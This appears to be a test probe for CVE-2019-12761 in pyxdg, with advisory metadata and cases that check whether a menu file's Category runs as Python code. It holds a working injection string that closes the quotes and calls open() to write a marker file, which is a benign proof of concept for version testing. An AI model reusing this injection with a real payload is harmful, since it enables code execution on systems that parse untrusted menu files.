# /// vertice-probe
# id = "PYSEC-2019-199"
# aliases = ["CVE-2019-12761", "SNYK-PYTHON-PYXDG-174562", "GHSA-r6v3-hpxj-r8rv"]
# package = "pyxdg"
# summary = "The category of a menu rule is pasted into a Python expression and evaluated, so a menu file runs code."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.0/AV:L/AC:H/PR:L/UI:R/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-94"]
# kind = "rce"
# symbols = ["xdg.Menu.parse", "xdg.Menu.Rule", "xdg.Menu.XMLMenuBuilder"]
#
# [[affected]]
# package = "pyxdg"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.26" }] }]
#
# [cases]
# attack = "a Category that closes the quotes calls open() and writes a marker"
# [cases.variants]
# merged = "the same from a merged menu file, nested in And and Not of an Exclude rule"
# [cases.controls]
# menu = "an ordinary menu lists programs by category and by file name"
#
# [test]
# vulnerable = "0.25"
# fixed = "0.26"
# python = ">=3.7,<3.14"
# ///
"""CVE-2019-12761: Python code in the Category of a menu file."""

import json
import os
import sys
import tempfile

BASE = tempfile.mkdtemp()
MARKER = os.path.join(BASE, "marker")
CODE = "x' in menuentry.Categories or open('%s', 'w') or 'y" % MARKER


def write(name, text):
    path = os.path.join(BASE, name)
    if not os.path.isdir(os.path.dirname(path)):
        os.makedirs(os.path.dirname(path))
    with open(path, "w") as out:
        out.write(text)
    return path


def parse(rules, merged=""):
    """The desktop file ids of the menu that the rules make out of an editor and a game."""
    from xdg import Menu

    for name, category in (("pen", "Office"), ("dice", "Game")):
        write(
            "applications/%s.desktop" % name,
            "[Desktop Entry]\nType=Application\nName=%s\nExec=true\nCategories=%s;\n" % (name, category),
        )
    if merged:
        write("other.menu", "<Menu><Name>M</Name>%s</Menu>" % merged)
        rules += "<MergeFile>%s</MergeFile>" % os.path.join(BASE, "other.menu")
    path = write(
        "my.menu",
        "<Menu><Name>M</Name><AppDir>%s</AppDir>%s</Menu>" % (os.path.join(BASE, "applications"), rules),
    )
    entries = Menu.parse(path).getEntries()
    return sorted(entry.DesktopFileID for entry in entries if hasattr(entry, "DesktopFileID"))


def look(entries):
    if os.path.exists(MARKER):
        return "exploited", "code in the Category created the marker file"
    if "pen.desktop" not in entries:
        return "error", "the menu was not made: %r" % entries
    return "blocked", "the Category was compared as text, the menu was made"


def attack():
    return look(parse("<Include><Category>Office</Category><Category>%s</Category></Include>" % CODE))


def merged():
    rule = "<Exclude><And><Not><Category>%s</Category></Not><Category>Game</Category></And></Exclude>" % CODE
    return look(parse("<Include><Category>Office</Category></Include>", rule))


def menu():
    both = "<Category>Game</Category><Filename>pen.desktop</Filename>"
    got = parse("<Include><Category>Office</Category></Include>"), parse("<Include><Or>%s</Or></Include>" % both)
    good = got == (["pen.desktop"], ["dice.desktop", "pen.desktop"])
    return ("works", "entries by category and by file name") if good else ("broken", repr(got))


CASES = {"attack": attack, "merged": merged, "menu": menu}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
